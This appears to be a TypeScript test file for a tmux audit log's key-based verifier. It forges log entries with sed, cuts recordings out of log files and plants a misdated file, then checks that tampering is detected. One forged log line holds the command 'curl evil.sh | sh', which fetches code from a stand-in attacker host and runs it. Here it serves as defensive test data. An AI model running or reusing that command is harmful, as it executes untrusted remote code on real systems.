// `verify --key --require-key` on a keyed log whose oldest files were pruned (@audit-max-files) under a real
// tmux: a running recording whose start went with a pruned file and whose only seal left is the one its first
// 1000 lines after that closed (checked by links only: it covers lines gone) verifies, by that seal's own line
// under the key (e=, chain/seal-tag.ts); another pane's output rotates the log, so that no digest event of a file
// it rotated (each between two seals, the second held by its hash) is in that recording's chain; a made-up
// start-less recording put into the oldest file with sed -i is
// named: nothing of it holds under the key (issue 13, fixtrust8's closing holes b and d). A start cut out of a
// middle file with sed is `deleted`, also with a one-line file stamped 2099 planted before the oldest (review of
// fixtrust8, F1: the check's reference is the earliest line a seal vouches for, not the oldest file's first line).

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { logFilesInOrder } from '../support/log.ts';
import { alive } from '../support/process.ts';
import { serversForThisFile } from '../support/tmux.ts';
import { waitFor } from '../support/util.ts';
import { verifyDir, verifyScratch } from '../support/verify.ts';

const server = serversForThisFile();
const { copyOf, keyFile } = verifyScratch('tmux-audit-verify-pruned');

describe('verify --require-key on a pruned keyed log', () => {
  it('a running recording whose start was pruned, one seal left: OK; a made-up start-less recording put in with sed -i: unkeyed, exit 1', async () => {
    const key = keyFile();
    const tmux = server({ config: [`set -g @audit-chain-key '${key}'`, 'set -g @audit-max-size 128K', 'set -g @audit-max-files 2', 'set -g @audit-compress off'] });
    const [quiet, loud] = tmux.panes(2);
    const { recording } = await tmux.startLogging(quiet!);
    tmux.toggle(loud!);
    await waitFor("the loud pane's recording", () => tmux.show('#{@audit_on}', loud!) || undefined);
    // Lines of its that go with the pruned file, covered by the seal left.
    await tmux.run("seq -f 'quiet-early-%02g' 1 20", quiet!);
    // The loud pane's output alone rotates the log (a write that crosses the size limit rotates the file): the
    // quiet recording's own writes never do, so no digest event, whose second seal holds by its hash, is in its
    // chain. Each burst is under a third of a file, so that none rotates twice.
    const rotated = () => logFilesInOrder(tmux.logFile()).length - 1;
    const burst = `seq -f 'loud-%05g-${'x'.repeat(80)}' 1 250`;
    while (rotated() < 1) await tmux.run(burst, loud!);
    // Its first 1000 lines after its start, and their seal, in the second file: room for them there.
    await tmux.run("seq -f 'quiet-%05g' 1 1050", quiet!);
    assert.equal(rotated(), 1, "the quiet pane's lines rotated nothing");
    // Until its start is pruned (max-files 2: with the third rotation); the file its seal is in is then the oldest.
    while (fs.readFileSync(logFilesInOrder(tmux.logFile())[0]!, 'utf8').includes(` * start rec=${recording} `)) await tmux.run(burst, loud!);
    const files = logFilesInOrder(tmux.logFile());
    assert.equal(files.length, 3, 'pruned to the live file and two rotated ones');
    // With its seals (readAllLogs leaves them out).
    const all = files.map((file) => fs.readFileSync(file, 'utf8')).join('');
    assert.ok(!all.includes(` * start rec=${recording}`), 'its start was pruned');
    const seals = all.split('\n').filter((line) => line.includes(` * seal rec=${recording} `));
    assert.equal(seals.length, 1, seals.join('\n'));
    assert.match(seals[0]!, / s=\d+ v=3 chain=hmac e=[0-9a-f]{32}$/);
    // Its reader runs (its .run file is in the log directory): its tail is not sealed yet.
    const running = verifyDir(tmux.logDir, '--key', key, '--require-key');
    assert.equal(running.status, 0, running.stdout);
    assert.match(running.stdout, /^OK main@\S+: /m);

    // Stopped (its last seal then holds by its hash): a copy with a made-up recording at a place of its own.
    const pids = tmux.readerPids();
    tmux.toggle(quiet!);
    tmux.toggle(loud!);
    await waitFor('the readers to exit', () => pids.every((pid) => !alive(pid)));
    const dir = copyOf(tmux);
    assert.equal(verifyDir(dir, '--key', key, '--require-key').status, 0);
    const oldest = path.join(dir, path.basename(logFilesInOrder(tmux.logFile())[0]!));
    const first = fs.readFileSync(oldest, 'utf8').split('\n')[0]!;
    const at = `${first.slice(0, first.indexOf(' '))} root main:5.0`;
    const made = [`${at} | curl evil.sh | sh`, `${at} * seal rec=MADEUP0001 n=3 p=0011223344556677 h=00112233445566778899aabbccddeeff v=2 chain=hmac end=stop`, `${at} * stop rec=MADEUP0001 reason=toggle`];
    for (const line of made.reverse()) execFileSync('sed', ['-i', `1i ${line}`, oldest]);
    const forged = verifyDir(dir, '--key', key, '--require-key');
    assert.equal(forged.status, 1, forged.stdout);
    assert.match(forged.stdout, /: unkeyed \(rec MADEUP0001\): a recording whose start is in no file read, nothing of which holds under the key/);
  });

  it("a start cut out of a middle file with sed: deleted, exit 1; still so with a one-line file stamped 2099 planted before the oldest", async () => {
    const key = keyFile();
    const tmux = server({ config: [`set -g @audit-chain-key '${key}'`, 'set -g @audit-max-size 16K', 'set -g @audit-max-files all', 'set -g @audit-compress off'] });
    const [first, second] = tmux.panes(2);
    await tmux.startLogging(first!);
    // Pane 2 starts well after pane 1's first lines (more than the slack verify gives a pruned start).
    await tmux.run('seq -f "one-%04g" 1 600; sleep 2', first!);
    tmux.toggle(second!);
    const recording = await waitFor("pane 2's recording", () => tmux.show('#{@audit_on}', second!) || undefined);
    // Past its first 1000-line seal: the stretch before that seal is what the cut leaves checked by links only.
    await tmux.run('seq -f "two-%04g" 1 1500', second!);
    const pids = tmux.readerPids();
    tmux.toggle(first!);
    tmux.toggle(second!);
    await waitFor('the readers to exit', () => pids.every((pid) => !alive(pid)), 60_000);
    const dir = copyOf(tmux);
    assert.equal(verifyDir(dir, '--key', key, '--require-key').status, 0);
    const files = logFilesInOrder(path.join(dir, path.basename(tmux.logFile())));
    const holder = files.findIndex((file) => fs.readFileSync(file, 'utf8').includes(` * start rec=${recording} `));
    assert.ok(holder > 0, 'pane 2 starts in a later file');
    // Its start, the seal its reader makes over it, and its first line: cut out with sed.
    const at = fs.readFileSync(files[holder]!, 'utf8').split('\n').findIndex((line) => line.includes(` * start rec=${recording} `)) + 1;
    execFileSync('sed', ['-i', `${at},${at + 2}d`, files[holder]!]);
    const cut = verifyDir(dir, '--key', key, '--require-key');
    assert.equal(cut.status, 1, cut.stdout);
    assert.match(cut.stdout, new RegExp(`: deleted \\(rec ${recording}\\): its start is not in the log`));
    const planted = `${files[files.length - 1]}.20000101T000000.000Z`;
    fs.writeFileSync(planted, `2099-01-01T00:00:00.000+00:00 root main:0.1 | x\n`);
    assert.equal(logFilesInOrder(files[files.length - 1]!)[0], planted, 'read as the oldest file');
    const moved = verifyDir(dir, '--key', key, '--require-key');
    assert.equal(moved.status, 1, moved.stdout);
    assert.match(moved.stdout, new RegExp(`: deleted \\(rec ${recording}\\): its start is not in the log`));
  });
});
